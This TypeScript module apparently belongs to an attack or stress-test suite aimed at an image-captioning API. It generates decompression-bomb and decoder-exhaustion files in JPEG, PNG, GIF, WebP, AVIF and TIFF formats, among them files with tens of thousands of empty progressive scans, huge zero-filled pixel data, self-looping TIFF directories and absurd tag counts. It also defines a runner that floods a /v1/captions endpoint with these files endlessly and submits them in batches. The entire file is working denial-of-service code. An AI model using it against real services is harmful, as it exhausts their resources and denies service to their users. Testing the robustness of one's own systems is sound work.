import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { type Attack, each, forever, tally } from './attack.ts'
import { batchOutcome, openClient, outcomeName, submitLines } from './client.ts'

const u16 = (value: number) => Buffer.from([value >> 8, value & 255])
const u32 = (value: number) => {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32BE(value)
  return bytes
}
const le = (value: number, bytes: number) => {
  const buffer = Buffer.alloc(bytes)
  buffer.writeUIntLE(value, 0, bytes)
  return buffer
}

interface Size {
  width: number
  height: number
}

/**
 * A grey progressive JPEG whose scans each say in some bytes that nothing is new in any block: a decoder walks through
 * all blocks for each of them. `legal` refines coefficient by coefficient, as the standard allows; else one scan is
 * repeated as often as wanted.
 */
export function progressiveJpeg({
  width,
  height,
  scans,
  legal = false,
}: Size & { scans: number; legal?: boolean }): Buffer {
  const blocks = Math.ceil(width / 8) * Math.ceil(height / 8)
  const segment = (marker: number, ...parts: (Buffer | number[])[]) => {
    const payload = Buffer.concat(parts.map((part) => Buffer.from(part)))
    return Buffer.concat([Buffer.from([0xff, marker]), u16(payload.length + 2), payload])
  }
  const oneCode = (symbol: number, tableClass: number) =>
    segment(0xc4, [tableClass << 4], [1, ...Array.from({ length: 15 }, () => 0)], [symbol])
  const scan = (range: [number, number], approximation: number, data: Buffer) =>
    Buffer.concat([segment(0xda, [1, 1, 0, ...range, approximation]), data])
  const empty = runsOfNothing(blocks)
  const head = [
    Buffer.from([0xff, 0xd8]),
    segment(0xdb, [0], Buffer.alloc(64, 1)),
    segment(0xc2, [8], u16(height), u16(width), [1, 1, 0x11, 0]),
    oneCode(0, 0),
    // A run of 2^14 blocks and more, in the one bit of its code and 14 more.
    oneCode(0xe0, 1),
    scan([0, 0], 0, Buffer.alloc(Math.ceil(blocks / 8))),
  ]
  const rest = Array.from({ length: scans }, (_, i) => {
    if (!legal) return scan([1, 63], 0, empty)
    // Each coefficient at first with 13 bits missing, then a bit at a time.
    const coefficient = 1 + (Math.floor(i / 14) % 63)
    const missing = 13 - (i % 14)
    return scan([coefficient, coefficient], missing === 13 ? 0x0d : ((missing + 1) << 4) | missing, empty)
  })
  return Buffer.concat([...head, ...rest, Buffer.from([0xff, 0xd9])])
}

/** Entropy-coded data of a scan in which no block has a coefficient. */
function runsOfNothing(blocks: number): Buffer {
  const bytes: number[] = []
  let held = 0
  let bits = 0
  const put = (value: number, count: number) => {
    for (let bit = count - 1; bit >= 0; bit--) {
      held = (held << 1) | ((value >> bit) & 1)
      if (++bits < 8) continue
      bytes.push(held, ...(held === 0xff ? [0] : []))
      held = 0
      bits = 0
    }
  }
  const most = 2 ** 15 - 1
  for (let left = blocks; left > 0; left -= most) {
    put(0, 1)
    put(Math.max(0, Math.min(left, most) - 2 ** 14), 14)
  }
  while (bits > 0) put(1, 1)
  return Buffer.from(bytes)
}

export const pngChunk = (type: string, data: Buffer) => {
  const body = Buffer.concat([Buffer.from(type), data])
  return Buffer.concat([u32(data.length), body, u32(crc32(body))])
}
const pngSignature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
const channels: Record<number, number> = { 0: 1, 2: 3, 4: 2, 6: 4 }

/** A PNG of nothing but zeros, tiny as a file. `before` are chunks ahead of the pixels. */
export function flatPng({
  width,
  height,
  depth = 8,
  colour = 0,
  interlaced = false,
  before = [],
}: Size & { depth?: 1 | 8 | 16; colour?: 0 | 2 | 4 | 6; interlaced?: boolean; before?: Buffer[] }): Buffer {
  const rowBytes = 1 + Math.ceil((width * channels[colour]! * depth) / 8)
  const header = Buffer.concat([
    u32(width),
    u32(height),
    Buffer.from([depth, colour, 0, 0, interlaced ? 1 : 0]),
  ])
  // Passes of an interlaced file need a little more than the rows themselves.
  const bytes = rowBytes * height + (interlaced ? 8 * height + 8 * width : 0)
  return Buffer.concat([
    pngSignature,
    pngChunk('IHDR', header),
    ...before,
    pngChunk('IDAT', zeros(bytes)),
    pngChunk('IEND', Buffer.alloc(0)),
  ])
}

/** Compressed zeros. */
const zeros = (bytes: number) => deflateSync(Buffer.alloc(bytes), { level: 9 })

/** A chunk of text, or of a colour profile, that unpacks to `bytes`. */
export const packedChunk = (type: 'zTXt' | 'iCCP', bytes: number): Buffer =>
  pngChunk(type, Buffer.concat([Buffer.from('name\0\0'), zeros(bytes)]))

/** Very many small chunks. */
export const manyChunks = (count: number): Buffer[] =>
  Array.from({ length: count }, () => pngChunk('tEXt', Buffer.from('k\0v')))

/** A plain AVIF: about a kilobyte, and gigabytes to some decoders. */
export const flatAvif = ({ width, height }: Size): Promise<Buffer> =>
  sharp({ create: { width, height, channels: 3, background: 'white' } })
    .avif({ effort: 0, quality: 1 })
    .toBuffer()

export const flatWebp = ({ width, height, lossless }: Size & { lossless: boolean }): Promise<Buffer> =>
  sharp({ create: { width, height, channels: 4, background: { r: 1, g: 2, b: 3, alpha: 0.5 } } })
    .webp({ lossless, effort: 0 })
    .toBuffer()

/** An animation of very many frames of one pixel on a canvas of any size. */
export function gifFrames({ width, height, frames }: Size & { frames: number }): Buffer {
  const screen = [le(width, 2), le(height, 2), Buffer.from([0x80, 0, 0, 0, 0, 0, 255, 255, 255])]
  const frame = Buffer.from('21f9040000000000' + '2c000000000100010000' + '0202440100', 'hex')
  return Buffer.concat([
    Buffer.from('GIF89a'),
    ...screen,
    ...Array.from({ length: frames }, () => frame),
    Buffer.from(';'),
  ])
}

/** The same as a WebP. */
export async function webpFrames({ width, height, frames }: Size & { frames: number }): Promise<Buffer> {
  const pixel = await sharp({ create: { width: 1, height: 1, channels: 3, background: 'red' } })
    .webp({ lossless: true })
    .toBuffer()
  const riff = (name: string, data: Buffer) =>
    Buffer.concat([Buffer.from(name), le(data.length, 4), data, Buffer.alloc(data.length % 2)])
  const vp8l = pixel.subarray(12)
  const frame = riff('ANMF', Buffer.concat([le(0, 6), le(0, 6), le(10, 3), Buffer.from([0]), vp8l]))
  const body = Buffer.concat([
    Buffer.from('WEBP'),
    riff('VP8X', Buffer.concat([le(2, 4), le(width - 1, 3), le(height - 1, 3)])),
    riff('ANIM', Buffer.alloc(6)),
    ...Array.from({ length: frames }, () => frame),
  ])
  return Buffer.concat([Buffer.from('RIFF'), le(body.length, 4), body])
}

type Tag = readonly [tag: number, type: 3 | 4, value: number, count?: number]

/** Directories of a TIFF, one behind the other; `next` of the last is an offset of choice, 0 to end. */
export function tiff(
  directories: readonly (readonly Tag[])[],
  { data = Buffer.alloc(0), next = 0 } = {},
): Buffer {
  const parts = [Buffer.from('II*\0'), le(8, 4)]
  let offset = 8
  for (const [i, tags] of directories.entries()) {
    const size = 2 + 12 * tags.length + 4
    offset += size
    parts.push(le(tags.length, 2))
    for (const [tag, type, value, count = 1] of tags)
      parts.push(le(tag, 2), le(type, 2), le(count, 4), le(value, 4))
    parts.push(le(i < directories.length - 1 ? offset : next, 4))
  }
  return Buffer.concat([...parts, data])
}

/** Tags of one grey picture of one strip. */
export const tiffPicture = (
  { width, height }: Size,
  { bits = 8, samples = 1, compression = 1, strip = 8, stripBytes = 1, rows = height } = {},
): Tag[] => [
  [256, 4, width],
  [257, 4, height],
  [258, 3, bits],
  [259, 3, compression],
  [262, 3, samples >= 3 ? 2 : 1],
  [273, 4, strip],
  [277, 3, samples],
  [278, 4, rows],
  [279, 4, stripBytes],
]

type Builder = () => Buffer | Promise<Buffer>

/** Files of a few bytes, or of megabytes at most, that cost a decoder seconds or gigabytes. `side`: of the large ones. */
export function hostileImages({
  side = 7992,
  files = 1,
}: {
  side?: number
  files?: number
} = {}): ReadonlyMap<string, Builder> {
  const square = { width: side, height: side }
  const pixels = side * side
  const many = (count: number) => Math.max(1, Math.round(count * files))
  return new Map<string, Builder>([
    ['a progressive JPEG of 20,000 scans', () => progressiveJpeg({ ...square, scans: many(20_000) })],
    [
      'a progressive JPEG of 800 legal scans',
      () => progressiveJpeg({ ...square, scans: many(800), legal: true }),
    ],
    [
      'a small progressive JPEG of 60,000 scans',
      () => progressiveJpeg({ width: 512, height: 512, scans: many(60_000) }),
    ],
    ['a PNG of one column', () => flatPng({ width: 1, height: pixels })],
    ['a PNG of one column of bits', () => flatPng({ width: 1, height: pixels, depth: 1 })],
    ['a PNG of one row', () => flatPng({ width: pixels, height: 1 })],
    ['an interlaced PNG', () => flatPng({ ...square, interlaced: true })],
    ['an interlaced PNG of one column', () => flatPng({ width: 1, height: pixels, interlaced: true })],
    [
      'a PNG of 16 bits and four channels',
      () => flatPng({ width: side, height: Math.ceil(side / 2), depth: 16, colour: 6 }),
    ],
    [
      'a PNG with a packed profile',
      () => flatPng({ width: 8, height: 8, before: [packedChunk('iCCP', many(400_000_000))] }),
    ],
    [
      'a PNG with packed texts',
      () =>
        flatPng({
          width: 8,
          height: 8,
          before: Array.from({ length: many(40) }, () => packedChunk('zTXt', many(7_900_000))),
        }),
    ],
    ['a PNG of 400,000 chunks', () => flatPng({ width: 8, height: 8, before: manyChunks(many(400_000)) })],
    ['an AVIF', () => flatAvif(square)],
    ['a WebP without loss', () => flatWebp({ ...square, lossless: true })],
    ['a WebP with loss', () => flatWebp({ ...square, lossless: false })],
    ['a GIF of 400,000 frames', () => gifFrames({ width: 8, height: 8, frames: many(400_000) })],
    ['a GIF of a huge canvas', () => gifFrames({ ...square, frames: many(1000) })],
    ['a WebP of 100,000 frames', () => webpFrames({ width: 8, height: 8, frames: many(100_000) })],
    ['a WebP of a huge canvas', () => webpFrames({ ...square, frames: many(1000) })],
    ['a TIFF that leads back to itself', () => tiff([tiffPicture({ width: 8, height: 8 })], { next: 8 })],
    [
      'a TIFF of 100,000 directories',
      () => tiff(Array.from({ length: many(100_000) }, () => tiffPicture({ width: 8, height: 8 }))),
    ],
    [
      'a TIFF of 65,535 samples',
      () => tiff([tiffPicture({ width: 4000, height: 4000 }, { samples: 65_535 })]),
    ],
    [
      'a TIFF of 64 bits and four samples',
      () => tiff([tiffPicture(square, { bits: 64, samples: 4, stripBytes: pixels })]),
    ],
    [
      'a TIFF of one column in strips of a row',
      () => tiff([tiffPicture({ width: 1, height: pixels }, { rows: 1 })]),
    ],
    [
      'a TIFF whose strip is elsewhere',
      () => tiff([tiffPicture(square, { strip: 2 ** 31, stripBytes: 2 ** 31 })]),
    ],
    ['a packed TIFF', () => packedTiff(square)],
    [
      'a TIFF of endless tags',
      () =>
        tiff([
          [
            [256, 4, 8],
            [257, 4, 8],
            [273, 4, 8, 2 ** 32 - 1],
            [279, 4, 8, 2 ** 32 - 1],
            [34675, 4, 8, 2 ** 31],
          ],
        ]),
    ],
  ])
}

function packedTiff(size: Size): Buffer {
  const data = zeros(size.width * size.height)
  const [tags] = [tiffPicture(size, { compression: 8, stripBytes: data.length })]
  const strip = 8 + 2 + 12 * tags.length + 4
  return tiff([tiffPicture(size, { compression: 8, strip, stripBytes: data.length })], { data })
}

const batchCopies = 4
const atOnce = 8

/** Of a share, so that they are built once. */
const built = new Map<number, Promise<Buffer[]>>()

async function buildImages(share: number): Promise<Buffer[]> {
  const files: Buffer[] = []
  for (const build of hostileImages({ side: Math.ceil(7992 * Math.sqrt(share)), files: share }).values())
    files.push(await build())
  return files
}

const builtImages = (share = 1): Promise<Buffer[]> => {
  const files = built.get(share) ?? buildImages(share)
  built.set(share, files)
  return files
}

/** The files as requests that wait, as requests that do not, and as lines of a batch that has a month. */
export const images: Attack = {
  title: 'images that are small to send and huge to decode',
  prepare: builtImages,
  async run(target) {
    const { signal, share } = target
    const client = openClient(target)
    const { outcomes, count } = tally()
    const files = await builtImages(share)
    const line = (image: Buffer) =>
      JSON.stringify({ image_url: `data:image/png;base64,${image.toString('base64')}` })
    const short = files.filter(({ length }) => length < 3_000_000)
    const lines = short.flatMap((image) => Array.from({ length: batchCopies }, () => line(image)))
    const batch = submitLines(client, lines)
    await each(forever(files), { concurrency: atOnce, signal }, async (body) => {
      const headers: Record<string, string> = Math.random() < 0.5 ? { prefer: 'respond-async' } : {}
      count(outcomeName(await client.send({ path: '/v1/captions', type: 'image/png', headers, body })))
    })
    await client.close()
    const after = openClient({ ...target, signal: AbortSignal.timeout(5000) })
    count(await batchOutcome(after, await batch))
    await after.close()
    return outcomes
  },
}
